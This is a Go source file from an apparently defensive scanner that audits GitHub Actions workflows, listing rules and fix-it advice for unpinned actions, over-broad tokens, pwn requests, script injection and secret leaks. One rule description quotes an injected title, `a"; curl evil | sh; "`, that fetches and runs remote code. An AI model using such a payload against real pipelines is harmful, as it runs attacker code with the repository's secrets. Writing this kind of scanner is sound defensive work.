package workflows

import (
	"github.com/rhysd/actionlint"

	"github.com/threatmap/threatmap"
	"github.com/threatmap/threatmap/evidence"
)

// Rule ids.
const (
	RuleUnpinnedAction     = "unpinned-action"
	RuleMissingPermissions = "missing-permissions"
	RuleBroadPermissions   = "broad-permissions"
	RuleUntrustedCheckout  = "untrusted-checkout"
	RuleScriptInjection    = "script-injection"
	RuleSecretExposure     = "secret-exposure"
	RuleSelfHostedRunner   = "self-hosted-runner-public"
	RuleUnpinnedImage      = "unpinned-image"
	RuleUnparsable         = "unparsable-workflow"
)

// RuleInfo describes one of this scanner's rules.
type RuleInfo = evidence.RuleInfo

// Rules lists every rule the workflows scanner reports, in a fixed order.
func Rules() []RuleInfo {
	return []RuleInfo{
		{ID: RuleUnpinnedAction, Title: "Action not pinned to a full commit SHA",
			Description: "A step or job uses an action or reusable workflow by branch or tag (aquasecurity/trivy-action@master). " +
				"Branches and tags move: whoever controls the action's repository, or steals its maintainer's token, " +
				"runs code in your pipeline with your secrets. Pin the full 40-character commit SHA and keep the tag in " +
				"a comment for updates. Branch references of third-party actions are high severity; tags of " +
				"GitHub-owned actions are low.", Severity: threatmap.High},
		{ID: RuleMissingPermissions, Title: "No permissions: block",
			Description: "Neither the workflow nor the job sets permissions:, so GITHUB_TOKEN gets the repository's default, which " +
				"is read-write on repositories and organisations created before 2023. Set permissions: {} or " +
				"contents: read at the top and grant more per job.", Severity: threatmap.Medium},
		{ID: RuleBroadPermissions, Title: "Over-broad GITHUB_TOKEN permissions",
			Description: "permissions: write-all, or write scopes granted to every job at the workflow level (read-all is reported at low severity: it reads private contents, packages and security alerts). Any step that is " +
				"compromised (an unpinned action, an injected script) can push code, publish packages or mint OIDC " +
				"tokens. Grant write scopes only to the job that needs them.", Severity: threatmap.Medium},
		{ID: RuleUntrustedCheckout, Title: "Privileged trigger checks out untrusted code",
			Description: "A pull_request_target or workflow_run workflow checks out the pull request's head. Those triggers run " +
				"with the base repository's secrets and a write token, so building or testing the checked-out code " +
				"lets any outside contributor run commands with them (a \"pwn request\"). Use pull_request for " +
				"untrusted code, or split the privileged part into a separate workflow that never executes it.", Severity: threatmap.Critical},
		{ID: RuleScriptInjection, Title: "Script injection from attacker-controlled context",
			Description: "A run: script, or an input that an action runs as code (actions/github-script's script, azure/cli's " +
				"inlineScript, yq's cmd, a local composite action's input that reaches its run:), interpolates ${{ }} " +
				"values an outsider controls: issue and pull request titles and bodies, comment bodies, branch names, " +
				"commit messages, env variables set from them, outputs of actions that echo pull-request file or branch names. " +
				"ACTIONS_ALLOW_UNSECURE_COMMANDS is reported too: it lets any printed text set environment variables; so is such a " +
				"value written into $GITHUB_ENV or $GITHUB_PATH, where a newline sets any variable for later steps. In a reusable workflow or composite action, the caller's " +
				"inputs count too (medium severity). Comparisons and predicates such as contains() yield true or false " +
				"and are not reported. The value is pasted into the " +
				"script before the shell runs, so a title like `a\"; curl evil | sh; \"` executes. Pass the value " +
				"through env: and use \"$VAR\" in the script.", Severity: threatmap.High},
		{ID: RuleSecretExposure, Title: "Secret echoed or passed to an untrusted step",
			Description: "A secret is printed by a run: step (log masking is best effort and fails on transformed values), encoded " +
				"on its way to the log, derived with fromJSON() (the masker only knows the whole value), over-provisioned " +
				"with toJSON(secrets) or secrets[computed name], written as a literal registry password in container credentials, passed " +
				"to a third-party action that is not pinned to a commit, or inherited by a reusable workflow from " +
				"another repository that is not pinned. Keep secrets out of logs and give them only to pinned, " +
				"reviewed code.", Severity: threatmap.High},
		{ID: RuleSelfHostedRunner, Title: "Self-hosted runner on a public trigger",
			Description: "A job runs on a self-hosted runner for a trigger outsiders can fire (pull_request, issue_comment, ...). " +
				"Self-hosted runners are not ephemeral by default: a fork's code can persist on the machine and reach " +
				"the network it sits in. Use GitHub-hosted or ephemeral, isolated runners for public triggers.", Severity: threatmap.High},
		{ID: RuleUnpinnedImage, Title: "Container image not pinned by digest",
			Description: "A job container, a service container or a Docker action's image is referenced by a tag (or none, " +
				"meaning latest) instead of a digest. The job runs that image with its secrets and token; whoever can " +
				"push a new image under the tag runs code in the pipeline. Pin it with @sha256:... and let a bot " +
				"update it. An untagged or latest image is medium severity, a version tag low.", Severity: threatmap.Medium},
		{ID: RuleUnparsable, Title: "Workflow that cannot be parsed",
			Description: "A workflow file is not valid YAML or not a workflow, so it was not audited. The finding names the " +
				"position of the problem.", Severity: threatmap.Low},
	}
}

func ruleSeverity(id string) threatmap.Severity {
	for _, r := range Rules() {
		if r.ID == id {
			return r.Severity
		}
	}
	return threatmap.Medium
}

// check is one rule's logic over a parsed workflow.
type check func(w *Workflow) []evidence.Finding

// checks is the explicit list of checks every workflow goes through.
var checks = []check{
	checkUnpinnedActions,
	checkPermissions,
	checkUntrustedCheckout,
	checkScriptInjection,
	checkSecretExposure,
	checkSelfHostedRunner,
	checkUnpinnedImages,
	checkSecretOverexposure,
	checkHardcodedCredentials,
	checkInsecureCommands,
	checkEnvFileInjection,
}

// finding builds a finding at a node's position.
func (w *Workflow) finding(rule string, sev threatmap.Severity, pos *actionlint.Pos, job *actionlint.Job, prop evidence.Property, msg string) evidence.Finding {
	p := orPos(pos)
	f := evidence.Finding{
		Scanner: ScannerName, Rule: rule, Severity: sev, Message: msg,
		File: w.File, Line: p.Line, Column: p.Col, Property: prop,
	}
	if job != nil {
		f.Resource = w.File + "#jobs." + jobID(job)
	} else {
		f.Resource = w.File
	}
	return f
}
